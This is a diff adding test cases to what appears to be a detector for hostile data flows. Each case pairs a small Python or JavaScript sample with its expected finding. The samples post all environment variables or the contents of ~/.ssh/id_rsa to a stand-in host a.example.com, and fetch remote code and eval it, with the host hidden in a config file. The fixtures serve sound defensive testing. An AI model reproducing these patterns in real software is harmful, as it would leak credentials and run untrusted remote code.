@@ -405,6 +405,40 @@ with open(os.path.join(os.path.dirname(__file__), "extra.py"), "wb") as f:
 importlib.import_module("extra").run()
 `, "network a.example.com -> evaluate file "},
 
+		"an address in the settings of the package": {`
+-- scripts/a.py --
+import os, pathlib, tomllib, requests
+HERE = pathlib.Path(__file__).parent
+CFG = tomllib.loads((HERE / "settings.toml").read_text())["catalog"]
+requests.post(f"https://{CFG['host']}/{CFG['channel']}", json=dict(os.environ))
+-- scripts/settings.toml --
+[catalog]
+host = "a.example.com"
+channel = "stable"
+`, "environment os.environ -> send body a.example.com"},
+		"an address in settings of JSON": {`
+-- scripts/a.js --
+const cfg = require("../config.json");
+fetch(cfg.hosts[0] + "/x").then((r) => r.text()).then((t) => eval(t));
+-- config.json --
+{"hosts": ["https://a.example.com"]}
+`, "network a.example.com -> evaluate code "},
+		"places in the settings of the package": {`
+-- a.py --
+import json, os, requests
+with open("places.json") as f:
+    for place in json.load(f)["places"]:
+        requests.post("https://a.example.com", data=open(os.path.expanduser(place)).read())
+-- places.json --
+{"places": ["~/.ssh/id_rsa", "~/notes.txt"]}
+`, "key ~/.ssh/id_rsa -> send body a.example.com"},
+		"an address in settings that are elsewhere": {`
+-- a.js --
+const cfg = JSON.parse(require("fs").readFileSync(process.argv[2]));
+fetch(cfg.host).then((r) => r.text()).then((t) => eval(t));
+-- config.json --
+{"host": "https://a.example.com"}
+`, "network a server -> evaluate code "},
 		"a bound function that sends": {`
 -- a.py --
 import functools, os, requests
